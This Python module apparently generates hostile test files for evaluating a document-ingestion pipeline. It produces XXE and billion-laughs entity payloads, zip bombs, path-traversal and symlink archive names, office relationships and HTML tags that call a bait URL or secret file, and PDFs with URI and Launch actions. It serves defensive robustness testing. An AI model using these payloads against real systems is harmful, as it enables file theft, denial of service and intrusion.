"""Known attacks, one function a family: bombs, nesting, lies, and names that point elsewhere."""

from __future__ import annotations

import io
import random
import stat
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

from evimed.govern.evaluate.hostile.bait import Bait
from evimed.govern.evaluate.hostile.mutate import package_of

Trap = Callable[[random.Random, Bait, Mapping[str, Sequence[bytes]]], tuple[str, bytes]]
_DEPTHS = (10, 300, 3_000, 30_000)
_BODY = "word/document.xml"


def _entities(rng: random.Random, bait: Bait) -> tuple[str, str]:
    """A document type whose entities name the bait, and a use of one."""
    target = rng.choice((bait.secret_file.as_uri(), bait.url, str(bait.secret_file), f"{bait.url}?x=%d;"))
    kind = rng.choice(("general", "parameter", "external subset", "laughs", "quadratic"))
    if kind == "laughs":
        levels = rng.choice((3, 9, 20))
        inner = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
        return f'<!DOCTYPE x [<!ENTITY l0 "lol">{inner}]>', f"&l{levels - 1};"
    if kind == "quadratic":
        return f'<!DOCTYPE x [<!ENTITY l "{"A" * 50_000}">]>', "&l;" * 2_000
    if kind == "general":
        return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>', "&e;"
    if kind == "parameter":
        return f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{target}"> %e;]>', "&e;"
    return f'<!DOCTYPE x SYSTEM "{target}">', "&e;"


def xml_entities(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Entities in a part of an office file, or in a page."""
    suffix = rng.choice((".docx", ".pptx", ".xlsx", ".html"))
    declared, used = _entities(rng, bait)
    if suffix == ".html":
        return "a.html", f"{declared}<html><body><p>dose {used}</p></body></html>".encode()

    def plant(name: str, content: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")) or rng.random() < 0.3:
            return content
        text = content.decode("utf-8", "replace")
        head, _, rest = (
            text.partition("?>") if text.startswith("<?xml") else ("<?xml version='1.0'", "?>", text)
        )
        at = rest.find("</", len(rest) // 3)
        return f"{head}?>{declared}{rest[:at]}{used}{rest[at:]}".encode()

    return f"a{suffix}", _with_parts(rng.choice(seeds[suffix]), plant)


def deep_markup(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Elements in elements in elements."""
    depth = rng.choice(_DEPTHS)
    if rng.random() < 0.5:
        tag = rng.choice(("div", "table><tr><td", "ul><li", "span", "b", "blockquote", "svg", "select"))
        close = "".join(f"</{part}>" for part in reversed(tag.split("><"))) if rng.random() < 0.5 else ""
        return "a.html", f"<html><body>{f'<{tag}>' * depth}dose{close * depth}".encode()
    suffix, part, tag = rng.choice(
        ((".docx", _BODY, "w:tbl><w:tr><w:tc"), (".docx", _BODY, "w:sdt><w:sdtContent"), (".docx", _BODY, "w:ins"),
         (".pptx", "ppt/slides/slide1.xml", "p:grpSp"), (".xlsx", "xl/worksheets/sheet1.xml", "row"))
    )  # fmt: skip
    close = "".join(f"</{name}>" for name in reversed(tag.split("><")))

    def plant(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        at = content.find(b">", content.find(b"<", 200)) + 1
        return content[:at] + f"<{tag}>".encode() * depth + close.encode() * depth + content[at:]

    return f"a{suffix}", _with_parts(rng.choice(seeds[suffix]), plant)


def remote_relations(
    rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]
) -> tuple[str, bytes]:
    """Relations of an office file that lead to the bait: pictures, templates, objects, links."""
    suffix = rng.choice((".docx", ".pptx", ".xlsx"))
    kinds = (
        "image",
        "attachedTemplate",
        "oleObject",
        "frame",
        "hyperlink",
        "externalLink",
        "aFChunk",
        "slide",
    )
    target = rng.choice(
        (
            bait.url,
            bait.secret_file.as_uri(),
            f"../../../..{bait.secret_file}",
            f"\\\\127.0.0.1@{bait.port}\\x",
        )
    )
    kind = rng.choice(kinds)
    mode = rng.choice(("TargetMode='External'", ""))
    extra = (
        "<Relationship Id='rIdBait' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        f"{kind}' Target='{target}' {mode}/></Relationships>"
    ).encode()

    def plant(name: str, content: bytes) -> bytes:
        return content.replace(b"</Relationships>", extra) if name.endswith(".rels") else content

    return f"a{suffix}", _with_parts(rng.choice(seeds[suffix]), plant)


def remote_page(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """A page that calls for the bait in every way a browser would follow."""
    url = rng.choice(
        (bait.url, bait.secret_file.as_uri(), f"//127.0.0.1:{bait.port}/x", "javascript:alert(1)")
    )
    tags = (
        f"<img src='{url}' onerror='fetch(\"{url}\")'>", f"<iframe src='{url}'></iframe>", f"<script src='{url}'></script>",
        f"<link rel=stylesheet href='{url}'>", f"<meta http-equiv=refresh content='0;{url}'>", f"<object data='{url}'>",
        f"<base href='{url}'>", f"<style>@import '{url}'</style>", f"<xi:include href='{url}' parse='text'/>",
    )  # fmt: skip
    chosen = "".join(rng.choices(tags, k=rng.randint(1, 200)))
    name = rng.choice(("a.html", "a.md", "a.eml"))
    head = "MIME-Version: 1.0\r\nContent-Type: text/html\r\nSubject: dose\r\n\r\n" if name == "a.eml" else ""
    return name, f"{head}<html><body><p>dose</p>{chosen}![x]({url})</body></html>".encode()


def zip_bomb(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Little that unpacks to much: in one member, in many, in one inside another, or inside an office file."""
    filler = rng.choice((b"\x00", b"dose 10 mg\n", b"a" * 64))
    size = rng.choice((1 << 20, 30 << 20, 120 << 20))
    content = filler * (size // len(filler))
    match rng.randrange(4):
        case 0:
            return "a.zip", package_of([("a.txt", content)])
        case 1:
            few = content[: 1 << 20]
            return "a.zip", package_of([(f"{n}.txt", few) for n in range(rng.choice((5, 150)))])
        case 2:
            inner = package_of([("a.txt", content[: 8 << 20])])
            for depth in range(rng.choice((1, 2, 12))):
                inner = package_of([(f"{depth}-{n}.zip", inner) for n in range(rng.choice((1, 6)))])
            return "a.zip", inner
        case _:
            suffix = rng.choice((".docx", ".pptx", ".xlsx"))
            large = content[: 60 << 20]
            target = rng.choice((".xml", ".rels", ".png"))
            return f"a{suffix}", _with_parts(
                rng.choice(seeds[suffix]),
                lambda name, old: old + large if name.endswith(target) else old,
                most=1,
            )


def many_members(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """An archive of very many files, or of files of one name."""
    count = rng.choice((500, 5_000, 20_000))
    same = rng.random() < 0.3
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w") as package:
        warnings.simplefilter("ignore")
        for number in range(count):
            package.writestr(zipfile.ZipInfo("same.txt" if same else f"{number}.txt"), b"")
    return "a.zip", made.getvalue()


def names_elsewhere(
    rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]
) -> tuple[str, bytes]:
    """Members whose names point out of the archive, and links that do."""
    outside = str(bait.outside)
    up = "../" * 20 + outside.lstrip("/")
    names = (
        outside, up, up.replace("/", "\\"), f"C:{outside}", f"\\\\server\\share{outside}", f"a/../../..{outside}",
        f"./{up}", "a\x00.txt", "\u202etxt.exe", "a" * 60_000, "con.txt", "~/x.txt", "", "/", "..", f"file://{outside}",
    )  # fmt: skip
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        warnings.simplefilter("ignore")
        package.writestr("good.txt", "The dose is 10 mg daily.")
        for name in rng.choices(names, k=rng.randint(1, 6)):
            info = zipfile.ZipInfo("x")
            info.filename = name[:60_000]
            if rng.random() < 0.4:
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            package.writestr(info, rng.choice((outside, "escaped", str(bait.secret_file))))
    return "a.zip", made.getvalue()


def lying_archive(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Sizes, checksums, offsets and flags of a directory that are not those of the members."""
    suffix = rng.choice((".zip", ".docx", ".xlsx", ".pptx"))
    made = bytearray(rng.choice(seeds[suffix]))
    for _ in range(rng.choice((1, 4))):
        start = made.find(b"PK\x01\x02", rng.randrange(len(made)))
        if start < 0:
            start = made.find(b"PK\x01\x02")
        field, width = rng.choice(
            ((8, 2), (10, 2), (16, 4), (20, 4), (24, 4), (28, 2), (30, 2), (38, 4), (42, 4))
        )
        value = rng.choice((0, 1, 0xFFFF, 0xFFFFFFFF, rng.getrandbits(32), start)) & ((1 << 8 * width) - 1)
        made[start + field : start + field + width] = value.to_bytes(width, "little")
    return f"a{suffix}", bytes(made)


def mail(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Mail in mail in mail, very many parts, headers without end, encodings that are none."""
    depth = rng.choice((3, 40, 400, 4_000))
    head = b"From: a@b.c\r\nMIME-Version: 1.0\r\nSubject: dose\r\n"
    match rng.randrange(5):
        case 0:
            body = b"".join(
                b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(depth)
            )
        case 1:
            body = b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: in\r\n\r\ntext"
        case 2:
            part = b'--b\r\nContent-Disposition: attachment; filename="../../x"\r\n\r\ndose\r\n'
            body = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * depth + b"--b--"
        case 3:
            body = b"X-Long: " + b"a" * 10 * depth + b"\r\n" + b"Received: x\r\n" * depth + b"\r\ntext"
        case _:
            charset = rng.choice(
                (b"utf-7", b"idna", b"punycode", b"unicode_escape", b"zlib_codec", b"no-such", b"hex")
            )
            coding = rng.choice((b"base64", b"quoted-printable", b"uuencode", b"x-none"))
            body = (
                b"Content-Type: text/plain; charset=" + charset + b"\r\nContent-Transfer-Encoding: " + coding
                + b"\r\nSubject: =?" + charset + b"?B?////?=\r\n\r\n" + rng.randbytes(200) + b"=C3=28 +AD4-"
            )  # fmt: skip
    return "a.eml", head + body


def tables(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Tables with very many columns, unclosed quotation marks, cells that span the world."""
    count = rng.choice((100, 10_000, 200_000))
    match rng.randrange(5):
        case 0:
            return "a.csv", b",".join([b"dose"] * count) + b"\n" + b"1," * count
        case 1:
            return "a.csv", b'a,b\n"' + b"x\n" * count
        case 2:
            return "a.tsv", b"a\tb\n" + b"\t" * count + b"\n" * count
        case 3:
            span = rng.choice((b"65534", b"-1", b"1000000", b"1e9"))
            cell = b"<td rowspan=" + span + b" colspan=" + span + b">dose</td>"
            return "a.html", b"<html><body><table>" + (b"<tr>" + cell * 5 + b"</tr>") * min(count, 2_000)
        case _:
            reference = rng.choice(
                (b"XFD1048576", b"A99999999999", b"ZZZZZZ1", b"A0", b"$$", b"A1:XFD1048576")
            )

            def plant(name: str, content: bytes) -> bytes:
                if "worksheets/sheet" not in name:
                    return content
                rows = b'<row r="1048576"><c r="' + reference + b'" t="s"><v>999999</v></c></row></sheetData>'
                merged = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
                return content.replace(b"</sheetData>", rows + merged)

            return "a.xlsx", _with_parts(rng.choice(seeds[".xlsx"]), plant)


def words(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Text that is hard to read: one endless line, marks on marks, other encodings, deep lists."""
    size = rng.choice((1_000, 100_000, 1_500_000))
    choices: tuple[bytes, ...] = (
        b"a" * size, "剂".encode() * (size // 3), b"- " * (size // 20), b"> " * (size // 20) + b"x", b"#" * size,
        "e\u0301\u0302\u0303".encode() * (size // 20), b"1." * (size // 20), b"|" * (size // 10) + b"\n|-", b"`" * size,
        "dose 剂量\n".encode("utf-16")[rng.randrange(3) :] * (size // 200), b"\xff\xfe" + rng.randbytes(size // 10),
        "\u202e\u2066\ufeff\u200b".encode() * (size // 40), rng.randbytes(min(size, 50_000)), b"*_[" * (size // 30),
        "剂量".encode("gb18030") * (size // 40) + b"\x81", b"\x1b[2J\x1b]0;x\x07" * (size // 100), b"((((" * (size // 40),
        b"dose \x00 mg\n" * (size // 100), ("𠮷" * (size // 40)).encode(), b"0123456789." * (size // 40),
    )  # fmt: skip
    return rng.choice(("a.txt", "a.md", "a.csv", "a.html", "a.eml")), rng.choice(choices)


def pdf(rng: random.Random, bait: Bait, seeds: Mapping[str, Sequence[bytes]]) -> tuple[str, bytes]:
    """Page trees in circles, streams that unpack to much, forms that draw themselves, actions that call out."""
    count = rng.choice((1, 50, 5_000))
    url = f"/OpenAction << /S /URI /URI ({bait.url}) >> /AA << /O << /S /Launch /F ({bait.secret_file}) >> >>"
    content = b"BT /F1 12 Tf 72 700 Td (dose 10 mg) Tj ET"
    kids, page_extra, box = "3 0 R", "", "0 0 612 792"
    match rng.randrange(8):
        case 0:
            kids = "2 0 R " * count
        case 1:
            kids = "3 0 R " * count
        case 2:
            content = b"q " * 20_000 * rng.choice((1, 20)) + content
        case 3:
            content = b"BT /F1 12 Tf 72 700 Td " + b"(dose) Tj " * 20_000 * rng.choice((1, 10)) + b"ET"
        case 4:
            content = b" " * (200 << 20)
        case 5:
            box = rng.choice(("0 0 1e30 1e30", "0 0 0 0", "-1e9 -1e9 1e9 1e9", "nan nan nan nan", "5 5 1 1"))
        case 6:
            page_extra, content = "/XObject << /X 6 0 R >>", b"/X Do " * 30
        case _:
            kids = f"{rng.randrange(9)} {rng.randrange(70_000)} R"
    stream = zlib.compress(content, 6)
    form = b"/X Do /X Do (dose) Tj"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {url} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {rng.choice((1, count, 2**31, -1))} >>".encode(),
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
        f"{page_extra} >> >>".encode(),
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>"
        b" /Length %d >>\nstream\n%b\nendstream" % (len(form), form),
    ]  # fmt: skip
    return "a.pdf", _pdf_of(objects)


def _pdf_of(objects: Sequence[bytes]) -> bytes:
    made = bytearray(b"%PDF-1.7\n")
    places: list[int] = []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(made) + b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        start,
    )


def _with_parts(data: bytes, change: Callable[[str, bytes], bytes], most: int | None = None) -> bytes:
    """A package with some parts changed; at most ``most`` of them."""
    parts: list[tuple[str, bytes]] = []
    changed = 0
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for info in package.infolist():
            old = package.read(info)
            new = change(info.filename, old) if most is None or changed < most else old
            changed += new is not old
            parts.append((info.filename, new))
    return package_of(parts)


TRAPS: tuple[Trap, ...] = (
    xml_entities, deep_markup, remote_relations, remote_page, zip_bomb, many_members, names_elsewhere, lying_archive,
    mail, tables, words, pdf,
)  # fmt: skip
